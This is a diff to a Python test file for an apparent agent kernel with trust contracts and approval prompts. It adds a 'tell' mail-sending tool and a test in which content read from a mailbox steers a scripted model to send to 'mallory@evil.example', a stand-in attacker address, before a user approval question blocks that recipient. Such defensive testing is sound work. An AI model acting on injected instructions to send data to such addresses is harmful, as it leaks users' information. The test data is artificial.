@@ -19,7 +19,7 @@ from oneiros.devices.processes import processes
 from oneiros.devices.quarantine import quarantine
 from oneiros.errors import OneirosError
 from oneiros.kernel import events as e
-from oneiros.kernel.contract import Contract
+from oneiros.kernel.contract import Contract, Effect
 from oneiros.kernel.events import Budget
 from oneiros.kernel.journal import Journal
 from oneiros.kernel.kernel import Kernel
@@ -46,7 +46,15 @@ HANDLE = "1.1#0.body"
 YES_OR_NO = {"type": "boolean"}
 NUMBER = {"type": "integer", "minimum": 0, "maximum": 9}
 NO_ANSWER = "There is no answer"
-MAIL = Contract(origins=("mail:in",), private=True, trusted_fields=("id",))
+MAIL = Contract(
+    origins=("mail:in",), private=True, trusted_fields=("id",), requested_by=("read", "mail")
+)
+TELLS = Contract(
+    effects=frozenset({Effect.SEND}),
+    critical=("to",),
+    sinks=("mail:{to}",),
+    requested_by=("tell",),
+)
 
 
 def mailbox(body: str) -> Tool:
@@ -54,6 +62,10 @@ def mailbox(body: str) -> Tool:
         return ToolResult(body, [{"id": 7, "body": body}])
 
     return tool("read", read, MAIL)
+
+
+async def tell(arguments, context):
+    return ToolResult("told")
 
 
 def is_child(messages: Sequence[Message]) -> bool:
@@ -92,7 +104,7 @@ async def system(
     journal = Journal.open(folder)
     programs = {"agent": Chat(), PROGRAM: Inspection()}
     kernel = Kernel(journal, models, lambda: tools, programs, PlainMemory(), **more)
-    for one in (mailbox(body), *quarantine(kernel), *processes(kernel)):
+    for one in (mailbox(body), tool("tell", tell, TELLS), *quarantine(kernel), *processes(kernel)):
         tools[one.name] = one
     await kernel.resume()
     try:
@@ -429,6 +441,29 @@ def test_who_kills_the_parent_kills_the_child(tmp_path: Path) -> None:
             for each in (pid, copy):
                 await until(kernel, lambda each=each: idle(kernel, each))
                 assert results(kernel, each)[1].startswith(f"Error: {NO_ANSWER}")
+
+    asyncio.run(main())
+
+
+def test_an_answer_anchors_nothing_and_may_be_told_to_whom_the_text_may(tmp_path: Path) -> None:
+    calls = [
+        asking({"enum": ["bob@a.example", "mallory@evil.example"]}),
+        ("tell", {"to": "mallory@evil.example", "text": "yes"}),
+        ("tell", {"to": "bob@a.example", "text": "yes"}),
+    ]
+    models = model(*calls, child='"mallory@evil.example"')
+    text = "Read my mail and tell bob@a.example whether it is an invoice."
+
+    async def main() -> None:
+        async with system(tmp_path, models) as kernel:
+            pid = await kernel.start(replace(SPEC, text=text))
+            await until(kernel, lambda: bool(kernel.questions()))
+            (question,) = kernel.questions()
+            assert "to 'mallory@evil.example': you did not write it" in question.text
+            await kernel.answer("1.3", allow=False)
+            await until(kernel, lambda: idle(kernel, pid))
+            assert results(kernel, pid)[-1] == "told"  # unasked
+            assert kernel.state(pid).label.trusted
 
     asyncio.run(main())
 
